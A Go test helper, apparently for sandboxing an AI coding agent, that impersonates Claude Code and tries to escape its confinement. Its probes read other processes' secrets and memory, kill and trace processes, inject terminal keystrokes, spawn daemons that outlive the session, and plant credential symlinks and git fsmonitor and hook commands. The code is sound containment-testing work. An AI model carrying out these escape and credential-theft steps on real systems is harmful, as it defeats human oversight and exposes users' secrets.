package onhost

import (
	"bufio"
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// prey is what the hostile program is told of the machine around it, as its
// prompt: it could find out all of it by itself.
type prey struct {
	Home     string // of the account
	Outside  string // a folder beside, below the host's /tmp
	Runs     string // the run directories on the host
	Watched  int    // a process of the same account, with a secret in its environment
	Doomed   int    // another, to be killed
	Socket   string // of an agent with keys
	Listener string // on loopback
	Abstract string // a socket without a file
	Segment  int    // of shared memory
	Key      string // in the keyrings
	Secret   string // in all that may not be read
	Mark     string // by which its processes are known
}

// hostileName is the name of the program. The test binary is the program when it
// is called so.
const hostileName = "hostile"

func init() {
	if filepath.Base(os.Args[0]) != hostileName {
		return
	}
	code := 0
	if err := hostile(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, err)
		code = 1
	}
	os.Exit(code)
}

func hostile(args []string) error {
	switch first := append(args, "")[0]; first {
	case "victim": // for as long as the test lives
		_, err := io.Copy(io.Discard, os.Stdin)
		return err
	case "--version":
		_, err := fmt.Println("2.1.330 (Claude Code)")
		return err
	case "auth":
		_, err := fmt.Println(`{"loggedIn":true}`)
		return err
	case "late": // what outlives its turn; it is a minute at most
		time.Sleep(time.Minute)
		return nil
	case "fork":
		_, err := again(nil, args[1:]...)
		return err
	case "nested":
		// As root of a namespace of its own.
		_ = unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, "")
		_ = unix.Mount("", args[1], "", unix.MS_REMOUNT|unix.MS_BIND, "")
		return writesBelow(args[1])
	}
	prompt, err := io.ReadAll(os.Stdin)
	if err != nil {
		return err
	}
	var p prey
	if err := json.Unmarshal(prompt, &p); err != nil {
		return err
	}
	// What was tried stands in the workspace, which is all that it has.
	said := map[string]string{}
	for _, a := range attempts {
		said[a.name] = ""
		if err := a.try(p); err != nil {
			said[a.name] = err.Error()
		}
	}
	report, err := json.Marshal(said)
	if err != nil {
		return err
	}
	fmt.Println(`{"type":"result","subtype":"success","is_error":false,"result":"done","num_turns":1,"total_cost_usd":0.01,"usage":{}}`)
	return os.WriteFile("said.json", report, 0o600)
}

// again starts the program again, as a process that nobody waits for.
func again(change func(*exec.Cmd), args ...string) (*exec.Cmd, error) {
	cmd := &exec.Cmd{Path: "/proc/self/exe", Args: append([]string{hostileName}, args...), SysProcAttr: &syscall.SysProcAttr{}}
	if change != nil {
		change(cmd)
	}
	return cmd, cmd.Start()
}

var errNothing = errors.New("nothing is there")

func reading(path func(prey) string) func(prey) error {
	return func(p prey) error {
		text, err := os.ReadFile(path(p))
		return p.found(text, err)
	}
}

// found is nil when the secret is in the text.
func (p prey) found(text []byte, err error) error {
	if bytes.Contains(text, []byte(p.Secret)) {
		return nil
	}
	return errors.Join(errNothing, err)
}

// planting leaves its mark in a file.
func planting(path func(prey) string) func(prey) error {
	return func(p prey) error {
		file := path(p)
		if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
			return err
		}
		f, err := os.OpenFile(file, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o700)
		if err != nil {
			return err
		}
		_, err = f.WriteString(p.Mark + "\n")
		return errors.Join(err, f.Close())
	}
}

func isPlanted(path func(prey) string) func(prey) bool {
	return func(p prey) bool {
		text, err := os.ReadFile(path(p))
		return err == nil && bytes.Contains(text, []byte(p.Mark))
	}
}

// writesBelow looks whether files can be made in a folder, and makes none.
func writesBelow(folder string) error {
	fd, err := unix.Open(folder, unix.O_TMPFILE|unix.O_RDWR, 0o600)
	if errors.Is(err, unix.EOPNOTSUPP) {
		return nil // it is asked for after permission
	}
	if err != nil {
		return err
	}
	return unix.Close(fd)
}

// opens a file and neither reads nor writes it.
func opens(flags int, path string) func(prey) error {
	return func(prey) error {
		fd, err := unix.Open(path, flags, 0)
		if err != nil {
			return err
		}
		return unix.Close(fd)
	}
}

// everybody looks at a file of each process but its own.
func everybody(name string) func(prey) error {
	return func(p prey) error {
		processes, err := filepath.Glob("/proc/[0-9]*")
		for _, process := range processes {
			if process == "/proc/"+strconv.Itoa(os.Getpid()) {
				continue
			}
			text, failed := os.ReadFile(process + "/" + strings.ReplaceAll(name, "HOME", p.Home))
			if p.found(text, nil) == nil {
				return nil
			}
			err = errors.Join(err, failed)
		}
		return errors.Join(errNothing, err)
	}
}

// readsMemory looks for the secret on the stack of the watched process.
func readsMemory(p prey) error {
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", p.Watched))
	if err != nil {
		return err
	}
	for line := range strings.Lines(string(maps)) {
		var from, to uint64
		if !strings.HasSuffix(strings.TrimSpace(line), "[stack]") {
			continue
		}
		if _, err := fmt.Sscanf(line, "%x-%x", &from, &to); err != nil {
			return err
		}
		text := make([]byte, to-from)
		local := []unix.Iovec{{Base: &text[0]}}
		local[0].SetLen(len(text))
		n, err := unix.ProcessVMReadv(p.Watched, local, []unix.RemoteIovec{{Base: uintptr(from), Len: len(text)}}, 0)
		return p.found(text[:max(n, 0)], err)
	}
	return errNothing
}

// traces seizes the watched process and lets go of it: it ends by itself.
func traces(p prey) error {
	return unix.PtraceSeize(p.Watched)
}

func kills(p prey) error { return unix.Kill(p.Doomed, unix.SIGKILL) }

// readsSegment attaches the shared memory of another process.
func readsSegment(p prey) error {
	segment, err := unix.SysvShmAttach(p.Segment, 0, unix.SHM_RDONLY)
	if err != nil {
		return err
	}
	return errors.Join(p.found(segment, nil), unix.SysvShmDetach(segment))
}

func searching(ring int) func(prey) error {
	return func(p prey) error {
		key, err := unix.KeyctlSearch(ring, "user", p.Key, 0)
		if err != nil {
			return err
		}
		text := make([]byte, 256)
		n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, key, text, 0)
		return p.found(text[:max(n, 0)], err)
	}
}

func dialing(network string, address func(prey) string) func(prey) error {
	return func(p prey) error {
		conn, err := net.DialTimeout(network, address(p), 5*time.Second)
		if err != nil {
			return err
		}
		return conn.Close()
	}
}

// asksProxy has the proxy that it was given, if any, connect to the listener.
func asksProxy(p prey) error {
	way, err := url.Parse(os.Getenv("HTTPS_PROXY"))
	if err != nil || way.Host == "" {
		return dialing("tcp", func(p prey) string { return p.Listener })(p)
	}
	conn, err := net.DialTimeout("tcp", way.Host, 5*time.Second)
	if err != nil {
		return err
	}
	defer func() { _ = conn.Close() }()
	if _, err := fmt.Fprintf(conn, "CONNECT %[1]s HTTP/1.1\r\nHost: %[1]s\r\n\r\n", p.Listener); err != nil {
		return err
	}
	answer, err := http.ReadResponse(bufio.NewReader(conn), &http.Request{Method: http.MethodConnect})
	if err != nil {
		return err
	}
	_ = answer.Body.Close()
	if answer.StatusCode != http.StatusOK {
		return errors.New(answer.Status)
	}
	return nil
}

// seesSockets looks where the services of a machine have theirs.
func seesSockets(prey) error {
	err := errNothing
	for _, folder := range []string{"/run", "/var/run"} {
		_ = filepath.WalkDir(folder+"/.", func(_ string, entry fs.DirEntry, failed error) error {
			if failed == nil && entry.Type()&fs.ModeSocket != 0 {
				err = nil
			}
			return nil
		})
	}
	return err
}

// readsEnvironment looks at what the session handed on.
func readsEnvironment(p prey) error { return p.found([]byte(strings.Join(os.Environ(), "\n")), nil) }

// holdsFiles looks for open files beside the three that it was given.
func holdsFiles(prey) error {
	// Go's own come with close-on-exec, what was handed on came without.
	entries, err := os.ReadDir("/proc/self/fd")
	for _, entry := range entries {
		fd, bad := strconv.Atoi(entry.Name())
		if bad != nil || fd < 3 {
			continue
		}
		if flags, gone := unix.FcntlInt(uintptr(fd), unix.F_GETFD, 0); gone == nil && flags&unix.FD_CLOEXEC == 0 {
			return nil
		}
	}
	return errors.Join(errNothing, err)
}

// injects types into the terminal from which its session was started.
func injects(prey) error {
	fds := []int{0, 1, 2}
	if fd, err := unix.Open("/dev/tty", unix.O_RDWR, 0); err == nil {
		fds = append(fds, fd)
	}
	err := errNothing
	for _, fd := range fds {
		if err = unix.IoctlSetPointerInt(fd, unix.TIOCSTI, 'x'); err == nil {
			return nil
		}
	}
	return err
}

// staying starts a process that is to outlive the turn.
func staying(how string, start func(args ...string) error) func(prey) error {
	return func(p prey) error { return start("late", p.Mark, how) }
}

func sameGroup(args ...string) error {
	_, err := again(nil, args...)
	return err
}

func ownSession(args ...string) error {
	_, err := again(func(cmd *exec.Cmd) { cmd.SysProcAttr.Setsid = true }, args...)
	return err
}

// daemon is forked twice, in a session of its own.
func daemon(args ...string) error {
	cmd, err := again(func(cmd *exec.Cmd) { cmd.SysProcAttr.Setsid = true }, append([]string{"fork"}, args...)...)
	if err != nil {
		return err
	}
	return cmd.Wait()
}

// nameless is a daemon without the environment by which it could be found.
func nameless(args ...string) error {
	cmd, err := again(func(cmd *exec.Cmd) {
		cmd.SysProcAttr.Setsid, cmd.Env = true, []string{"PATH=/usr/bin:/bin"}
	}, append([]string{"fork"}, args...)...)
	if err != nil {
		return err
	}
	return cmd.Wait()
}

// nests makes user and mount namespaces of its own, where it is root, and makes
// the system writable there.
func nests(prey) error {
	var complaint bytes.Buffer
	cmd, err := again(func(cmd *exec.Cmd) {
		cmd.Stderr = &complaint
		cmd.SysProcAttr.Cloneflags = unix.CLONE_NEWUSER | unix.CLONE_NEWNS
		cmd.SysProcAttr.UidMappings = []syscall.SysProcIDMap{{HostID: os.Getuid(), Size: 1}}
		cmd.SysProcAttr.GidMappings = []syscall.SysProcIDMap{{HostID: os.Getgid(), Size: 1}}
	}, "nested", "/usr")
	if err != nil {
		return err
	}
	if err := cmd.Wait(); err != nil {
		return fmt.Errorf("%w: %s", err, complaint.String())
	}
	return nil
}

// mounts covers a folder of the system in the namespace that it is in, and takes
// that away at once.
func mounts(p prey) error {
	target := filepath.Join(p.Outside, "mounted")
	if err := os.MkdirAll(target, 0o700); err != nil {
		return err
	}
	if err := unix.Mount("none", target, "tmpfs", 0, ""); err != nil {
		return err
	}
	return unix.Unmount(target, 0)
}

// gainsPrivileges looks whether set-uid programs have an effect for it.
func gainsPrivileges(prey) error {
	set, err := unix.PrctlRetInt(unix.PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0)
	if err == nil && set != 0 {
		err = errors.New("no new privileges")
	}
	return err
}

// makesDevice makes the device of the first disk.
func makesDevice(prey) error { return unix.Mknod("disk", unix.S_IFBLK|0o600, int(unix.Mkdev(8, 0))) }

func hardLinks(p prey) error { return os.Link(filepath.Join(p.Home, ".aws/credentials"), "hard") }

// replacesItself puts another program in the place of its own.
func replacesItself(p prey) error {
	other := program(p) + ".new"
	if err := planting(func(prey) string { return other })(p); err != nil {
		return err
	}
	return os.Rename(other, program(p))
}

// leavesLinks leaves in the workspace what leads out of it, and what is no file.
func leavesLinks(p prey) error {
	return errors.Join(
		os.Symlink(filepath.Join(p.Home, ".aws/credentials"), "stolen"), os.Symlink(p.Home, "home"),
		unix.Mkfifo("pipe", 0o600),
		os.MkdirAll(".git/objects/info", 0o700), os.MkdirAll(".git/hooks", 0o700), os.Mkdir("sub", 0o700),
		os.WriteFile(".git/HEAD", []byte("ref: refs/heads/main\n"), 0o600),
		os.WriteFile(".git/config", []byte("[core]\n\tfsmonitor = touch "+p.Outside+"/ran\n\thooksPath = hooks\n"), 0o600),
		os.WriteFile(".git/hooks/post-index-change", []byte("#!/bin/sh\ntouch "+p.Outside+"/ran\n"), 0o700),
		os.WriteFile(".git/objects/info/alternates", []byte(p.Runs+"\n"), 0o600),
		os.WriteFile("sub/.git", []byte("gitdir: "+p.Home+"/checkout/.git\n"), 0o600),
	)
}
